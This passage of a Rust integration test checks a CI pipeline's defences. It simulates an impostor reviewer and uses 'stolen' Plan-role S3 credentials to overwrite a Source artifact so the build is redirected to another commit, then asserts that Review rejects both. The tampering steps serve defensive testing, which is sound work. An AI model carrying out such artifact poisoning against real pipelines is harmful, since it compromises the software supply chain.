            assert_eq!(run.stage(stage, Approval::Refuse).await.unwrap(), StageResult::Succeeded, "{stage}");
        }
        assert!(run.variable("Plan", "PLAN_DIGEST").is_some_and(|d| d.contains("impostor-artifacts")), "mounted");
        run.stage("Review", Approval::Refuse).await.unwrap()
    });
    assert!(matches!(&review, StageResult::Failed(why) if why.contains("not a SHA-256")), "{review:?}");
    assert!(f.who_wrote("impostor-ran").is_empty(), "an impostor reviewer ran: {:?}", f.who_wrote("impostor-ran"));

    // Copied-out Plan credentials point an honest run's Source at another commit of the repository
    // before its Plan: Plan builds that one, and the review refuses what it planned.
    f.push("honest again", |repo| {
        remove_wrapper(repo);
    });
    git(&f.repo, &["checkout", "--quiet", "-b", "elsewhere"]);
    f.push("another commit", |repo| {
        let path = repo.join("stages.toml");
        std::fs::write(&path, std::fs::read_to_string(&path).unwrap().replace("memory_mb = 256", "memory_mb = 512"))
            .unwrap();
    });
    let elsewhere = String::from_utf8(
        Command::new("git").arg("-C").arg(&f.repo).args(["rev-parse", "HEAD"]).output().unwrap().stdout,
    )
    .unwrap();
    git(&f.repo, &["checkout", "--quiet", "dev"]);
    let review = xtask::aws::runtime().unwrap().block_on(async {
        let mut run = f.run().await;
        run.stage("Source", Approval::Refuse).await.unwrap();
        let Some(Artifact::Stored { bucket, key }) = run.artifact("Source").cloned() else {
            panic!("no Source artifact")
        };
        let stolen = f.s3_as("itest-dev-ci-plan").await;
        let reference =
            serde_json::json!({"cloneRef": {"repository": f.repo.to_string_lossy(), "commit": elsewhere.trim()}});
        stolen
            .put_object()
            .bucket(&bucket)
            .key(&key)
            .body(reference.to_string().into_bytes().into())
            .send()
            .await
            .unwrap();
        assert_eq!(run.stage("Plan", Approval::Refuse).await.unwrap(), StageResult::Succeeded);
        run.stage("Review", Approval::Refuse).await.unwrap()
    });
    assert!(matches!(&review, StageResult::Failed(why) if why.contains("redirected")), "{review:?}");
}
